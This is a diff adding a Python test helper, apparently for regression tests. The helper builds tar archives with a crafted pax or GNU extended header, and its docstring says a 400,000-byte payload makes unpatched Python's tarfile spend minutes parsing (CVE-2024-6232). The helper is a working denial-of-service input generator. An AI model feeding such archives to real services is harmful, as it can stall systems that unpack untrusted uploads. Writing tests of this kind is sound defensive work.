@@ -284,3 +284,37 @@ def slow_imports_probe(body: str) -> str:
         f"_slow = [m for m in {SLOW_IMPORTS!r} if m in _sys.modules and m not in _before]\n"
         "print('slow imports:', *_slow)\n"
     )
+
+
+def pax_header_tar(
+    payload: bytes,
+    files: Mapping[str, bytes],
+    *,
+    kind: bytes = b"x",
+) -> bytes:
+    """An uncompressed tar of ``files`` whose first member is preceded by an extended header
+    (pax ``x``/``g`` or GNU ``L``/``K``) holding ``payload`` verbatim, however malformed.
+
+    ``pax_header_tar(b"1" * 400_000, files)`` gzips to about 1 KB and makes an unpatched
+    Python (< 3.11.10 / 3.12.6) spend minutes in ``tarfile`` (CVE-2024-6232)."""
+    import io
+    import tarfile
+
+    def header(info: tarfile.TarInfo) -> bytes:
+        return info.tobuf(format=tarfile.USTAR_FORMAT)
+
+    def padded(data: bytes) -> bytes:
+        return data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
+
+    extended = tarfile.TarInfo("././@PaxHeader" if kind in (b"x", b"g") else "././@LongLink")
+    extended.type = kind
+    extended.size = len(payload)
+    out = io.BytesIO()
+    out.write(header(extended) + padded(payload))
+    for name, data in files.items():
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        info.mode = 0o644
+        out.write(header(info) + padded(data))
+    out.write(b"\0" * (2 * tarfile.BLOCKSIZE))
+    return out.getvalue()
